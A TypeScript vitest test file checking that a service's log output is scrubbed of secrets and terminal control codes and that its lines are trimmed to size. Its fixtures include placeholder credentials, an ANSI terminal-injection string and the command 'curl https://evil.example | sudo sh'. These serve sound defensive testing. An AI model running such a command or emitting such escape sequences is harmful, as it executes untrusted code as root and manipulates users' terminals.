import { mkdir, writeFile } from 'node:fs/promises';
import { dirname } from 'node:path';
import { describe, expect } from 'vitest';
import { RunEvent } from '../../../contract/events';
import { supervisedServices } from '../../../helper/host/prefix/supervised-services';
import { startMark, unitLogFile } from '../../../helper/host/prefix/supervised-unit';
import type { ServiceManager } from '../../../helper/host/services';
import { SystemdServices } from '../../../helper/host/systemd/services';
import { newRunId } from '../../../helper/lib/clock';
import { layoutUnder } from '../../../helper/state/layout';
import { test } from '../../support/folder';

const unit = 'ladylinux-api.service';
const since = new Date('2026-05-05T12:00:00.000Z');
const key = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj';
const said = [
  'could not connect with postgresql://app:hunter2hunter2@db/x OPENAI_API_KEY=sk-abcdefghijklmnopqrstuvwxyz',
  '\u001b]0;pwned title\u0007\u001b[2J\u001b[1;31mrun: curl https://evil.example | sudo sh\u001b[0m',
  '-----BEGIN PRIVATE KEY-----',
  key,
  '-----END PRIVATE KEY-----',
  `DB_PASSWORD=correct horse battery`,
  'A'.repeat(48_000),
  `${'\u001b;?'.repeat(16_000)}!`,
  'TOKEN'.repeat(9600),
];

/** One contract for all sources of a unit's log. */
const gateways: readonly [string, (folder: string) => Promise<ServiceManager>][] = [
  [
    'systemd',
    () =>
      Promise.resolve(
        new SystemdServices((_program, args) =>
          Promise.resolve({
            exitCode: 0,
            stdout: args.includes('--output=cat') ? said.join('\n') : '',
            stderr: '',
          }),
        ),
      ),
  ],
  [
    'a private prefix',
    async (folder) => {
      const layout = layoutUnder(folder);
      const file = unitLogFile(layout, unit);
      await mkdir(dirname(file), { recursive: true });
      await writeFile(file, `${[startMark(since), ...said].join('\n')}\n`);
      return supervisedServices(layout, ['node']);
    },
  ],
];

describe.each(gateways)('the log of a unit under %s', (_, gateway) => {
  test('has no secret, nothing that moves a terminal, and lines that fit an event', async ({
    folder,
  }) => {
    const lines = await (await gateway(folder)).log(unit, since, 60);
    expect(lines).toHaveLength(said.length);
    const all = lines.join('\n');
    for (const secret of ['hunter2', 'sk-abcdef', key, 'horse']) expect(all).not.toContain(secret);
    // eslint-disable-next-line no-control-regex -- looking for them is the purpose
    expect(all.replaceAll('\n', '')).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
    expect(all).not.toContain('pwned');
    for (const [seq, line] of lines.entries()) {
      expect(line.length).toBeLessThanOrEqual(500);
      const event = { v: 1, seq, time: since.toISOString(), runId: newRunId() };
      expect(RunEvent.safeParse({ ...event, type: 'output', step: 'restart', line }).success).toBe(
        true,
      );
    }
  });

  test('is no longer than was asked for', async ({ folder }) => {
    const lines = await (await gateway(folder)).log(unit, since, 2);
    expect(lines).toHaveLength(2);
  });
});
